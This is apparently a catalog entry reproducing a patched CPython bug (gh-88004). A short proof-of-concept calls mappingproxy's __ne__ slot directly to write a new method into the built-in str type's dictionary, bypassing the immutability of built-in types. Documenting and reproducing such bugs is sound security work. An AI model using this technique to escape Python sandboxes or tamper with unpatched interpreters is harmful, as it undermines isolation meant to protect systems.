# technique: the comparison slot of mappingproxy, called by hand
# goal: bend
# mended: later releases
# source: CPython gh-88004 (bpo-43838)
class Spy:
    def __ne__(self, other):
        other['planted'] = lambda self: 'ESCAPED built-in type written'


proxy = str.__dict__
type(proxy).__dict__['__ne__'].__get__(proxy)(Spy())
print(''.planted())
